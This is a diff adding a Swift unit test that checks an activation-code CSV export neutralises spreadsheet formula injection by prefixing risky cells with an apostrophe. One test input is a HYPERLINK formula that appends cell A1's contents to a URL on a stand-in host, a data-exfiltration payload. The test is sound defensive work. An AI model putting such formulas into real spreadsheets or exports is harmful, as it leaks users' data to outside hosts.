@@ -61,6 +61,22 @@ struct PortalUnitTests {
         #expect(HTML.time("2021-01-12") == "2021-01-12")
     }
 
+    /// A name or community that Excel would run as a formula is written as text.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\""),
+        ("+86 138", "'+86 138"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\"'\r=1\""),
+        ("张三", "张三"),
+        ("a=b", "a=b"),
+    ])
+    func activationCodesCSVNeutralisesFormulas(_ name: String, _ cell: String) {
+        let csv = ActivationCodes.csv([ActivationCodes.Entry(cadreID: "FM-001", name: name, community: name, code: "ABCD-EFGH-JKLM")])
+        #expect(csv == "工号,姓名,社区,激活码\nFM-001,\(cell),\(cell),ABCD-EFGH-JKLM\n")
+    }
+
     @Test func constantTimeComparison() {
         #expect(PortalService.constantTimeEqual("abc", "abc"))
         #expect(!PortalService.constantTimeEqual("abc", "abd"))
